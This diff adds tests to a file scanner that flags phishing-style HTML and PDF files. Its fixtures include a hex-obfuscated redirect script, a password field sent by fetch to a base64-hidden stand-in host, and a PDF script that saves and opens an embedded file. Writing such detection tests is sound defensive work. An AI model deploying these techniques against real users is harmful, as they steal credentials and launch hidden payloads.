@@ -247,3 +247,30 @@ test('what lies on a virtual disk is seen', async () => {
   assert.deepEqual([items[0]?.type, traits(items[0])], ['vhd', ['disk-image']])
   assert.ok(traits(items.find((item) => item.name === 'a.lnk')).includes('lnk-command'))
 })
+
+test('a page that only leads on, or hides where its password goes, is told; a page with links and a search form is not', async () => {
+  const escaped = Buffer.from('<script>location.href="https://a.example.net/?u=1"</script>')
+    .toString('hex')
+    .replace(/../g, '%$&')
+  for (const page of [
+    '<html><meta http-equiv="refresh" content="0;url=https://a.example.net/#x"></html>',
+    '<html><script>window.location.replace("https://a.example.net/")</script></html>',
+    `<html><script>document.write(unescape('${escaped}'))</script></html>`,
+  ])
+    assert.deepEqual(traits((await look('a.html', page))[0]), ['html-redirect'], page)
+  const target = Buffer.from('https://api.example.net/bot/send').toString('base64')
+  const form = `<html><input type=password id=p><script>fetch(atob("${target}"),{body:p.value})</script></html>`
+  assert.equal(detail((await look('a.html', form))[0], 'html-form'), 'api.example.net')
+  const plain =
+    '<html><form action="https://example.jp/s"><input type="text"></form><a href="https://example.jp/">%E3%81%82</a></html>'
+  assert.deepEqual(traits((await look('a.html', plain))[0]), [])
+})
+
+test('a PDF script that saves a carried file and opens it is a launch; one that counts fields is not', async () => {
+  const pdf = (js: string) =>
+    `%PDF-1.7\n1 0 obj\n<</Names<</JavaScript 2 0 R>>>>\nendobj\n2 0 obj\n<</S/JavaScript/JS(${js})>>\nendobj\n%%EOF`
+  const starts = (await look('a.pdf', pdf('this.exportDataObject\\({cName:"a",nLaunch:2}\\);')))[0]
+  assert.ok(starts?.traits.some((one) => one.detail.startsWith('Launch')))
+  const counts = (await look('a.pdf', pdf('AFNumber_Format\\(2,0,0,0,"",true\\);')))[0]
+  assert.ok(!counts?.traits.some((one) => one.detail.startsWith('Launch')))
+})
